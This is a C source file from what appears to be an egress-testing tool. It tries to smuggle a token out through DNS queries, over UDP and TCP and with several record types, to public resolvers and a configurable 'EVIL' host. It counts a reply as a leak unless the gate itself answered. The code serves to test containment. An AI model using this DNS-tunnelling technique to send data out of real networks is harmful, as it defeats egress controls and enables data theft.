/* SPDX-License-Identifier: ISC */

/*
 * egressctl: attempts to carry something out in the question of a DNS query.
 * The gate answers every question itself: with an address of 198.18.0.0/15,
 * or with no data.  A resolver that has really asked would say that there is
 * no such name.
 */

#include <arpa/inet.h>

#include <string.h>
#include <unistd.h>

#include "attack.h"

#define DNS_PORT	53
#define DNS_HEAD	12
#define TYPE_A		1
#define TYPE_NULL	10
#define TYPE_TXT	16
#define TYPE_HTTPS	65
#define TYPE_AXFR	252
#define TYPE_ANY	255
#define RCODE_NXDOMAIN	3
#define QUERY_MAX	128

static size_t
put_label(char *at, const char *label)
{
	size_t	len = strlen(label);

	*at = (char)len;
	memcpy(at + 1, label, len);
	return len + 1;
}

/* token.example.com (RFC 1035, 4.1). */
static size_t
make_query(const struct attack *at, uint16_t type, char *buf)
{
	static const char	 head[DNS_HEAD] = { 0x4e, 0x47, 1, 0, 0, 1 };
	char			*p = buf;

	memcpy(p, head, sizeof(head));
	p += sizeof(head);
	p += put_label(p, at->at_token);
	p += put_label(p, "example");
	p += put_label(p, "com");
	*p++ = 0;
	*p++ = (char)(type >> 8);
	*p++ = (char)type;
	*p++ = 0;
	*p++ = 1;
	return (size_t)(p - buf);
}

/* The address of a reply with one A record: its last four bytes. */
static int
is_synthetic(const uint8_t *p, size_t len)
{
	return p[6] == 0 && p[7] == 1 && len > DNS_HEAD + 4 &&
	    p[len - 4] == 198 && (p[len - 3] & 0xfe) == 18;
}

static enum outcome
outcome_of(struct attack *at, const char *reply, ssize_t n, const char *where)
{
	const uint8_t	*p = (const uint8_t *)reply;

	if (n < DNS_HEAD)
		return attack_say(at, OUTCOME_BLOCKED, "no answer");
	if ((p[2] & 0x80) == 0)
		return attack_say(at, OUTCOME_LEAKED, "%s sent the question "
		    "back", where);
	if ((p[3] & 0x0f) == RCODE_NXDOMAIN)
		return attack_say(at, OUTCOME_LEAKED, "%s knows that there is "
		    "no such name", where);
	if (p[6] == 0 && p[7] == 0)
		return attack_say(at, OUTCOME_BLOCKED, "answered with no data");
	if (is_synthetic(p, (size_t)n))
		return attack_say(at, OUTCOME_BLOCKED, "the gate answered");
	return attack_say(at, OUTCOME_LEAKED, "%s gave an answer that is not "
	    "the gate's", where);
}

static enum outcome
ask_udp(struct attack *at, const union endpoint *ep, uint16_t type,
    const char *where)
{
	char	query[QUERY_MAX], reply[REPLY_MAX];
	size_t	len = make_query(at, type, query);
	ssize_t	n;

	n = net_datagram(ep, DNS_PORT, query, len, reply, sizeof(reply));
	return outcome_of(at, reply, n, where);
}

static enum outcome
ask_tcp(struct attack *at, const union endpoint *ep, uint16_t type,
    const char *where)
{
	char	query[QUERY_MAX + 2] = { 0 }, reply[REPLY_MAX];
	size_t	len = make_query(at, type, query + 2);
	ssize_t	n;

	query[1] = (char)len;
	n = net_exchange(ep, DNS_PORT, query, len + 2, reply, sizeof(reply));
	return outcome_of(at, reply + 2, n - 2, where);
}

/* Public resolvers that anybody can ask, and EVIL. */
static enum outcome
ask_servers(struct attack *at, uint16_t type, enum outcome (*ask)(
    struct attack *, const union endpoint *, uint16_t, const char *))
{
	static const char *const	servers[] = { "8.8.8.8", "1.1.1.1" };
	union endpoint			ep;
	size_t				i;

	if (at->at_evil != NULL && ask(at, &at->at_address, type,
	    at->at_evil) == OUTCOME_LEAKED)
		return OUTCOME_LEAKED;
	for (i = 0; i < sizeof(servers) / sizeof(servers[0]); i++)
		if (net_address(servers[i], &ep) == 0 &&
		    ask(at, &ep, type, servers[i]) == OUTCOME_LEAKED)
			return OUTCOME_LEAKED;
	return OUTCOME_BLOCKED;
}

enum outcome
probe_dns_udp(struct attack *at)
{
	return ask_servers(at, TYPE_A, ask_udp);
}

enum outcome
probe_dns_tcp(struct attack *at)
{
	return ask_servers(at, TYPE_A, ask_tcp);
}

enum outcome
probe_dns_types(struct attack *at)
{
	static const uint16_t	types[] = { TYPE_TXT, TYPE_NULL, TYPE_ANY,
	    TYPE_HTTPS, TYPE_AXFR };
	size_t			i;

	for (i = 0; i < sizeof(types) / sizeof(types[0]); i++)
		if (ask_servers(at, types[i], ask_udp) == OUTCOME_LEAKED)
			return OUTCOME_LEAKED;
	return OUTCOME_BLOCKED;
}
